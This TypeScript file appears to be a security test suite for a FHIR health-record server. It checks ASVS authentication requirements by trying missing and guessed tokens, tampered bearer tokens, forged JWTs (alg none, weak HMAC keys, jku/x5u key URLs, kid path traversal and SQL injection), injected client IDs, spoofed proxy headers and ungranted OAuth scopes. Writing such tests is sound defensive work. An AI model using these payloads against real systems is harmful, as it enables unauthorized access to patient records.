import { createHmac, randomBytes } from "node:crypto";
import { attack, type Family, loot } from "./attack.ts";
import type { Asker, Target } from "./target.ts";

const secrets = [
  "/fhir/Patient/p-other",
  "/fhir/Patient",
  "/api/session",
  "/api/jobs/counts",
  "/fhir/Patient/_history",
];

/** Everything behind the door, asked with a key that was never given out. */
async function tryKeys(target: Target, keys: Readonly<Record<string, Asker>>) {
  const { gains, when } = loot();
  for (const [what, headers] of Object.entries(keys))
    for (const path of secrets) {
      const answer = await target.send({ path, headers });
      when(answer.status < 400, `${what} opened ${path}`);
      when(answer.status >= 500, `${what} broke ${path} (${answer.status})`);
    }
  return gains;
}

const base64 = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString("base64url");
const claims = {
  sub: "admin",
  iss: "http://127.0.0.1",
  aud: "tuetinh",
  scope: "system/*.cruds",
  exp: 4_102_444_800,
};
const jwt = (header: object, sign: (signed: string) => string): Asker => {
  const signed = `${base64({ typ: "JWT", ...header })}.${base64(claims)}`;
  return { authorization: `Bearer ${signed}.${sign(signed)}` };
};
const hmac = (key: string) => (signed: string) =>
  createHmac("sha256", key).update(signed).digest("base64url");

const noKey = attack({
  name: "asks for the record without a token, with an empty one, with a guessed one",
  asvs: ["8.2.1", "8.3.1", "6.3.2"],
  run: (target) =>
    tryKeys(target, {
      "no token": {},
      "an empty token": { authorization: "Bearer " },
      "a token of spaces": { authorization: "Bearer    " },
      "a guessed token": { authorization: `Bearer ${randomBytes(32).toString("base64url")}` },
      "a word": { authorization: "Bearer admin" },
      undefined: { authorization: "Bearer undefined" },
      "another scheme": { authorization: "Basic YWRtaW46YWRtaW4=" },
      "no scheme": { authorization: randomBytes(32).toString("base64url") },
      "a quote": { authorization: "Bearer ' or 1=1 --" },
      "a long token": { authorization: `Bearer ${"a".repeat(10_000)}` },
      "a guessed cookie": { cookie: `tuetinh_session=${randomBytes(32).toString("base64url")}` },
      "an empty cookie": { cookie: "tuetinh_session=; __Host-tuetinh_session=" },
      "a cookie of an id": { cookie: "tuetinh_session=00000000-0000-7000-8000-000000000000" },
      "a header of a proxy": { "x-user": "admin", "x-forwarded-user": "admin", "x-remote-user": "admin" },
    }),
});

const bentKey = attack({
  name: "bends a real token: a letter changed, cut off, in other case, as a cookie, in the address",
  asvs: ["9.1.1", "7.2.1", "14.2.1"],
  run: async (target) => {
    const header = target.askers.all["authorization"] ?? "";
    const token = header.replace("Bearer ", "");
    const last = token.at(-2) === "A" ? "B" : "A";
    const gains = await tryKeys(target, {
      "a changed token": { authorization: `Bearer ${token.slice(0, -2)}${last}${token.slice(-1)}` },
      "a cut token": { authorization: `Bearer ${token.slice(0, -1)}` },
      "a longer token": { authorization: `Bearer ${token}A` },
      "a token in other case": { authorization: `Bearer ${token.toLowerCase()}x` },
      "a token as a cookie": { cookie: `tuetinh_session=${token}` },
      "a token doubled": { authorization: `Bearer ${token} ${token}` },
      "a token with a null": { authorization: `Bearer ${token}%00` },
    });
    const { gains: more, when } = loot();
    for (const name of ["access_token", "token", "authorization", "tuetinh_session"]) {
      const answer = await target.send({ path: `/fhir/Patient/p-other?${name}=${token}` });
      when(answer.status < 400, `a token was taken from the address (${name})`);
    }
    const form = await target.send({
      method: "POST",
      path: "/fhir/Patient/_search",
      headers: { "content-type": "application/x-www-form-urlencoded" },
      body: `access_token=${token}`,
    });
    when(form.status < 400, "a token was taken from a form");
    return [...gains, ...more];
  },
});

const algorithms = attack({
  name: "signs its own tokens: alg none, HMAC with public words, keys at addresses of its own",
  asvs: ["9.1.1", "9.1.2", "9.1.3"],
  run: (target) =>
    tryKeys(target, {
      "alg none": jwt({ alg: "none" }, () => ""),
      "alg None": jwt({ alg: "None" }, () => ""),
      "alg absent": jwt({}, () => ""),
      "an empty key": jwt({ alg: "HS256" }, (signed) =>
        createHmac("sha256", Buffer.alloc(1)).update(signed).digest("base64url"),
      ),
      "the word secret": jwt({ alg: "HS256" }, hmac("secret")),
      "a key as the token tells": jwt({ alg: "HS256", jwk: { kty: "oct", k: "c2VjcmV0" } }, hmac("secret")),
      "a key at an address": jwt({ alg: "HS256", jku: `${target.trap.url}/jwks` }, hmac("secret")),
      "a key in a file": jwt({ alg: "HS256", kid: "../../../../dev/null" }, hmac("\u0000")),
      "a key in SQL": jwt({ alg: "HS256", kid: "x' union select 'secret" }, hmac("secret")),
      "a certificate": jwt({ alg: "RS256", x5u: `${target.trap.url}/cert` }, () => "AAAA"),
    }),
});

const clientAssertions = attack({
  name: "asks for a token of a program with a wrong secret, another program's, or a forged assertion",
  asvs: ["10.4.10", "9.1.1", "10.4.16"],
  run: async (target) => {
    const { gains, when } = loot();
    const id = target.client.client_id;
    const assertion = `${base64({ alg: "none" })}.${base64({ ...claims, iss: id, sub: id })}.`;
    const type = "urn:ietf:params:oauth:client-assertion-type:jwt-bearer";
    const forms: readonly Readonly<Record<string, string>>[] = [
      { client_id: id },
      { client_id: id, client_secret: "" },
      { client_id: id, client_secret: "wrong" },
      { client_id: id, client_secret: `${target.client.client_secret.slice(0, -1)}!` },
      { client_id: `${id}' or '1'='1`, client_secret: target.client.client_secret.slice(1) },
      { client_id: id, client_assertion: assertion, client_assertion_type: type },
      { client_assertion: assertion, client_assertion_type: type },
    ];
    for (const form of forms) {
      const answer = await target.send({
        method: "POST",
        path: "/oauth/token",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body: new URLSearchParams({ grant_type: "client_credentials", ...form }).toString(),
      });
      when(/"access_token"/.test(answer.text), `a token for ${Object.keys(form).join(", ")}`);
      when(answer.status >= 500, `broke with ${Object.keys(form).join(", ")}`);
    }
    return gains;
  },
});

const grantsNotGiven = attack({
  name: "asks the token endpoint for grants and scopes that were never given",
  asvs: ["10.4.4", "10.4.11"],
  run: async (target) => {
    const { gains, when } = loot();
    for (const grant of ["password", "implicit", "refresh_token", "urn:x", "", "authorization_code"]) {
      const form = { grant_type: grant, username: "admin", password: "admin", code: "x", refresh_token: "x" };
      const answer = await target.send({
        method: "POST",
        path: "/oauth/token",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body: new URLSearchParams(form).toString(),
      });
      when(/"access_token"/.test(answer.text), `a token by the grant «${grant}»`);
      when(answer.status >= 500, `the grant «${grant}» broke the endpoint`);
    }
    const more = {
      grant_type: "client_credentials",
      scope: "system/*.* access.everything",
      ...target.client,
    };
    const answer = await target.send({
      method: "POST",
      path: "/oauth/token",
      headers: { "content-type": "application/x-www-form-urlencoded" },
      body: new URLSearchParams(more).toString(),
    });
    when(
      /access\.everything|"access_token":"weak"/.test(answer.text),
      "a scope that the program does not hold",
    );
    return gains;
  },
});

export const tokenAttacks: Family = {
  family: "keys",
  attacks: [noKey, bentKey, algorithms, clientAssertions, grantsNotGiven],
};
